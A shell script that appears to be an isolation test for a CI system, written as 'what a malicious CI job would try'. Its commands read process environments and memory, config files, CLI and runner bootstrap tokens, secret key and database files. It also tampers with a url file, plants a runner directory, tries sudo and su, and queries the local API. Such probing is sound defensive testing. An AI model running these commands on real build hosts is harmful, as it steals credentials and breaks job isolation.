# What a malicious CI job would try: run by a job with the data directory and the API's port as arguments.
data=$1
port=$2
echo "who: $(id -un) $(id -u)"
echo "--- environment"
env
echo "--- processes"
for process in /proc/[0-9]*; do
  command=$(tr '\0' ' ' 2>&1 <"$process/cmdline")
  case $command in *"runner --runner-id"*) runners="$runners $(echo "$command" | sed 's/.*--runner-id \([^ ]*\).*/\1/')" ;; esac
  case $command in *"$data"* | *gosling* | *sim-runner* | *config.toml*)
    echo "$command"
    tr '\0' '\n' 2>&1 <"$process/environ"
    ls -l "$process/cwd" "$process/fd" 2>&1
    cat "$process/cwd/config.toml" "$process/cwd/agent.json" "$process/root$data/cli-token" 2>&1
    head -c 100 "$process/mem" 2>&1
    ;;
  esac
done
tr '\0' '\n' 2>&1 <"/proc/$PPID/environ"
kill -0 "$PPID" 2>&1
echo "--- files"
ls -laR "$data" 2>&1
for name in canary cli-token url instance.lock secrets.json.enc key/secrets.key gosling.db gosling.db-wal; do
  cat "$data/$name" 2>&1
done
echo "runners:$runners"
for id in $runners; do
  for name in canary config.toml agent.json bootstrap-token runner.json agent.log; do
    cat "$data/local-runners/$id/$name" 2>&1
  done
done
echo stolen 2>&1 >"$data/url"
mkdir "$data/local-runners/mine" 2>&1
echo "--- rights"
sudo -n id 2>&1
su root -c id 2>&1 </dev/null
echo "--- interface"
exec 3<>"/dev/tcp/127.0.0.1/$port" && printf 'GET /runners HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n' >&3 && cat <&3
echo
echo "--- hunted to the end"
